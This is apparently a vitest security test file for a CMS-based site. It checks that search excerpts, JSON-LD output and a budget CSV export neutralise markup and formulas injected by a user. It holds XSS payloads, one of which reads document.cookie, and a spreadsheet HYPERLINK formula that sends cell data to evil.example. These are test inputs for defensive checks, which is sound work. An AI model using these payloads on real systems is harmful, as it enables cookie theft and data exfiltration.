import Papa from 'papaparse'
import { handleEndpoints } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import config from '../../../payload.config'
import { readEnv, serverUrl } from '../../../src/env'
import { graphql, payload, rest } from '../../helpers/api'
import { signIn, type Subject } from '../../helpers/surfaces'

/*
 * Issue 10, class 8: what people write reaches partner sites and spreadsheets as data, never as
 * markup or formulas. Search excerpts are escaped HTML with only the server's <mark>; the JSON-LD
 * can be inlined in a <script> tag; the budget CSV neutralises formulas.
 */

const IMG = '<img src=x onerror=alert(1)>'
const SCRIPT = '</script><script>alert(document.cookie)</script><!--'
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquer")'

let pilot: Subject
let coordinator: Subject
let cvc: number
let resource: number

/** Whatever markup is left once the server's own <mark>s are taken out. */
const markupBesidesMarks = (excerpt: string) =>
  excerpt.replace(/<\/?mark>/g, '').match(/[<>]/g) ?? []

beforeAll(async () => {
  const p = await payload()
  pilot = await signIn('pilot', 'pilote@collectif-ville-campagne.test')
  coordinator = await signIn('coordinator', 'coordination@unadel.test')
  cvc = (
    await p.find({
      collection: 'members',
      where: { slug: { equals: 'collectif-ville-campagne' } },
      depth: 0,
    })
  ).docs[0]!.id
  const fn = (
    await p.find({
      collection: 'functions',
      where: { slug: { equals: 'expertise-prospective' } },
      depth: 0,
    })
  ).docs[0]!.id
  // The pilot writes through the API, as an attacker with an account would.
  const created = await rest('POST', '/resources', {
    token: pilot.token,
    body: {
      title: `Guide ${SCRIPT} coopération`,
      type: 'tool',
      function: fn,
      // The private-use marks the server uses for <mark> cannot be smuggled in.
      summary: `Coopération ${IMG} \uE000faux\uE001 & « territoires » "quotes" 'apostrophes' </mark><b>gras</b>`,
      _status: 'published',
    },
  })
  expect(created.status).toBe(201)
  resource = created.body.doc.id
})

describe('search excerpts', () => {
  it('escape what an organisation wrote in its profile (REST and GraphQL)', async () => {
    const changed = await rest('PATCH', `/members/${cvc}`, {
      token: pilot.token,
      body: { acronym: `CVC ${IMG}` },
    })
    expect(changed.status).toBe(200)

    const viaRest = await rest('GET', '/search?q=Ville%20Campagne&type=members')
    expect(viaRest.status).toBe(200)
    const hit = viaRest.body.docs.find((d: { id: number }) => d.id === cvc)
    expect(hit.excerpt).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(markupBesidesMarks(hit.excerpt)).toEqual([])

    const viaGraphQL = await graphql(
      '{ search(q: "Ville Campagne", type: ["members"]) { docs { id excerpt } } }',
    )
    const gqlHit = viaGraphQL.body.data.search.docs.find((d: { id: number }) => d.id === cvc)
    expect(gqlHit.excerpt).toBe(hit.excerpt)
  })

  it('keep only the server’s <mark> around the words found, whatever the text holds', async () => {
    for (const answer of [
      (await rest('GET', '/search?q=coop%C3%A9ration&type=resources&limit=50')).body.docs,
      (
        await graphql(
          '{ search(q: "coopération", type: ["resources"], limit: 50) { docs { id excerpt } } }',
        )
      ).body.data.search.docs,
    ]) {
      const hit = answer.find((d: { id: number }) => d.id === resource)
      expect(hit.excerpt).toContain('<mark>Coopération</mark>')
      expect(hit.excerpt).toContain('&lt;img src=x onerror=alert(1)&gt;')
      // PostgreSQL's parser drops what it reads as a bare tag; whatever is left is text.
      expect(hit.excerpt).toContain('gras')
      expect(hit.excerpt).not.toContain('<b>')
      expect(hit.excerpt).toContain(
        '&amp; « territoires » &quot;quotes&quot; &#39;apostrophes&#39;',
      )
      // The smuggled private-use marks are gone, not turned into <mark>.
      expect(hit.excerpt).toContain(' faux ')
      expect(hit.excerpt).not.toMatch(/[\uE000\uE001]/)
      expect(hit.excerpt.match(/<mark>/g)).toHaveLength(1)
      expect(markupBesidesMarks(hit.excerpt)).toEqual([])
    }
  })
})

describe('JSON-LD', () => {
  it('can be inlined in a <script> tag: no <, > or & in the text, the same JSON once parsed', async () => {
    const answer = await handleEndpoints({
      config,
      request: new Request(`http://localhost/api/resources/${resource}/jsonld`),
    })
    expect(answer.status).toBe(200)
    const text = await answer.text()
    expect(text).not.toMatch(/[<>&]/)
    expect(text).toContain('\\u003c/script\\u003e')
    const parsed = JSON.parse(text)
    expect(parsed.name).toBe(`Guide ${SCRIPT} coopération`)
    expect(parsed['@type']).toBe('CreativeWork')
    // A partner page that inlines it keeps one script element: the text closes nothing.
    const page = `<script type="application/ld+json">${text}</script>`
    expect(page.match(/<\/script/gi)).toHaveLength(1)
  })

  it('names documents on the server’s own origin, whatever Host the request gives', async () => {
    const request = new Request(`http://evil.example/api/resources/${resource}/jsonld`, {
      headers: { host: 'evil.example' },
    })
    const parsed = JSON.parse(await (await handleEndpoints({ config, request })).text())
    expect(parsed['@id']).toBe(`${serverUrl(readEnv())}/api/resources/${resource}/jsonld`)
  })
})

describe('budget CSV', () => {
  it('neutralises a formula an organisation put in its name; numbers stay numbers', async () => {
    const renamed = await rest('PATCH', `/members/${cvc}`, {
      token: pilot.token,
      body: { name: FORMULA },
    })
    expect(renamed.status).toBe(200)
    const line = await rest('POST', '/budget-lines', {
      token: coordinator.token,
      body: {
        year: 2014,
        direction: 'income',
        kind: 'cash',
        label: 'Cotisation',
        category: 'subsidy',
        funder: cvc,
        planned: 1000,
        actual: 400,
        status: 'validated',
      },
    })
    expect(line.status).toBe(201)

    const csv = await rest('GET', '/budget-lines/summary?year=2014&format=csv', {
      token: coordinator.token,
    })
    expect(csv.status).toBe(200)
    const text = csv.body as string
    const rows = Papa.parse<string[]>(text.trim()).data
    const funderRow = rows.find((r) => r[0] === 'funder' && r[2]!.includes('HYPERLINK'))!
    expect(funderRow[2]).toBe(`'${FORMULA}`)
    // Every text cell is safe for a spreadsheet...
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/)
    // ...and a negative figure is still a number.
    expect(funderRow.slice(3)).toEqual(['1000', '400', '-600'])
    expect(text).toContain(',-600')
  })
})
